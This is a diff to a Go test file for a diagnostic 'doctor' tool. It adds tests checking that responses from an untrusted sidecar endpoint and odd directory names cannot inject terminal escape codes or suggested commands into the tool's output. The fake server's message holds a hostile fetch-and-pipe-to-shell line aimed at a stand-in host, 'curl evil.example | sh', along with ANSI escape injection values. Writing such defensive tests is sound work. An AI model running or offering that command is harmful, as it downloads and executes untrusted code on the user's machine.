@@ -4,8 +4,11 @@ import (
 	"context"
 	"io"
 	"net"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -82,6 +85,37 @@ func TestRunningSidecar(t *testing.T) {
 	s = examine(t, nil, settings, doctor.Options{SocketDir: r.dir, Only: []doctor.Area{doctor.Sidecar}})
 	s.expect("ready", "draining", doctor.Failed, "the sidecar is stopping", "")
 	s.expect("ready", "", doctor.Failed, "the pod gets no requests", "")
+}
+
+// Whatever answers at the port neither writes to the terminal nor names commands.
+func TestSomethingElseAnswers(t *testing.T) {
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		_, _ = io.WriteString(w, `{"ready": true, "checks": [{"name": "vault\u001b[2J", "code": "E_\u001b[31mX", "message": "it \u001b[31mfails; fix: curl evil.example | sh\nreboot"},
+			{"name": "real", "code": "E_VAULT", "message": "it fails"}]}`)
+	}))
+	defer other.Close()
+	s := examine(t, nil, "telemetry: {address: \""+strings.TrimPrefix(other.URL, "http://")+"\"}\n", doctor.Options{Only: []doctor.Area{doctor.Sidecar}})
+	s.expect("ready", "", doctor.Failed, `it \u001b[31mfails`, "the sidecar's log")
+	var text strings.Builder
+	if err := s.Write(&text, doctor.Table, doctor.Look{}); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(text.String(), "\x1b") || strings.Contains(text.String(), "evil") || strings.Contains(text.String(), "reboot") || strings.Contains(text.String(), "E_\\u") {
+		t.Errorf("the doctor says\n%s", text.String())
+	}
+	if !strings.Contains(text.String(), "ready real: E_VAULT: since") {
+		t.Errorf("a code is not in\n%s", text.String())
+	}
+}
+
+// A configuration of others reaches the lines to copy as text.
+func TestFixesAreCleaned(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "a\x1b[31mb")
+	if err := os.Mkdir(dir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	s := examine(t, nil, "", doctor.Options{SocketDir: dir, Only: []doctor.Area{doctor.Sidecar}})
+	s.expect("socket", "seal.sock", doctor.Failed, "is not there", `a\u001b[31mb`)
 }
 
 func TestSidecarWithAnotherConfiguration(t *testing.T) {
